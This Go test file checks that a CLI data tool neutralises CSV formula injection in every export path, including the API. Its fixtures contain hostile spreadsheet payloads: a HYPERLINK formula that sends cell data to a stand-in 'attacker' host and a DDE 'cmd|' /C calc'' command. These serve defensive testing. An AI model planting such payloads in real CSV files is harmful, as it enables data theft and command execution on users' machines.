package main

import (
	"encoding/csv"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"zoneboard/internal/safecsv"
)

// hostileData names a unit, an indicator, a source and a plan record with texts a spreadsheet
// would run as formulas.
const hostileUnits = `code,name,name_en,kind,parent
C,"=HYPERLINK(""http://attacker/?""&A1)",City,city,
Z,@SUM(1+1)*cmd|' /C calc'!A0,Zone,zone,C
`

const hostileIndicators = `code,name,name_en,unit,frequency,cumulative,price_basis,aggregate,better,decimals
gdp,+地区生产总值,-GDP,亿元,quarter,yes,real,sum,up,1
`

const hostileObservations = `unit,indicator,period,value,growth,status,source,note
C,gdp,2020,1000,-3.5,final,=cmd,"	tab"
Z,gdp,2020,200,-1.5,final,-source,@note
`

// checkNeutralised fails when a CSV has a cell a spreadsheet would read as a formula.
func checkNeutralised(t *testing.T, what string, data string) {
	t.Helper()
	r := csv.NewReader(strings.NewReader(data))
	r.FieldsPerRecord = -1
	cells := 0
	for {
		rec, err := r.Read()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("%s: not CSV: %v\n%s", what, err, data)
		}
		for _, c := range rec {
			cells++
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !safecsv.Number(c) {
				t.Errorf("%s: the cell %q would run as a formula", what, c)
			}
		}
	}
	if cells == 0 {
		t.Errorf("%s: no cells", what)
	}
}

// Every CSV the program writes neutralises formula cells (numbers stay numbers), and an
// export imports back unchanged.
func TestEveryCSVIsNeutralised(t *testing.T) {
	c := newCLI(t)
	c.mustRun("import", c.file("units.csv", hostileUnits), c.file("indicators.csv", hostileIndicators), c.file("obs.csv", hostileObservations))
	outputs := map[string][]string{
		"export":     {"export", "--format", "csv"},
		"query":      {"query", "--indicator", "gdp", "--period", "2020", "--format", "csv"},
		"check":      {"check", "--format", "csv"},
		"dashboard":  {"dashboard", "--unit", "Z", "--format", "csv"},
		"indicators": {"indicators", "--format", "csv"},
	}
	var exported string
	for what, args := range outputs {
		out := c.mustRun(args...)
		if what != "check" || strings.TrimSpace(out) != "" {
			checkNeutralised(t, what, out)
		}
		if what == "export" {
			exported = out
			if !strings.Contains(exported, "'=cmd") || !strings.Contains(exported, "-3.5") {
				t.Errorf("export: the formula is not quoted or the number is: %s", exported)
			}
		}
	}
	if out := c.mustRun("query", "--indicator", "gdp", "--period", "2020", "--format", "csv"); !strings.Contains(out, `'=HYPERLINK(`) {
		t.Errorf("query: the unit's name is not quoted: %s", out)
	}
	// the plan's CSV files
	dir := t.TempDir()
	c.mustRun("import", c.file("goals.csv", "goal,goal_name\nG1,=1+1\n"))
	c.mustRun("export", "--plan", "--format", "csv", "-o", dir)
	files, _ := filepath.Glob(filepath.Join(dir, "*.csv"))
	for _, f := range files {
		data, _ := os.ReadFile(f)
		if strings.TrimSpace(string(data)) != "" {
			checkNeutralised(t, filepath.Base(f), string(data))
		}
	}
	// the API's export
	c2 := newCLI(t)
	c2.db = c.db
	base := c2.startServer(t)
	resp, err := client.Get(base + "/api/v1/export?format=csv")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	checkNeutralised(t, "GET /api/v1/export", string(body))
	// read back: nothing changes
	if out := c.mustRun("import", "--dry-run", c.file("exported.csv", exported)); !strings.Contains(out, "新增0，修改0") {
		t.Errorf("the export does not read back unchanged:\n%s", out)
	}
}
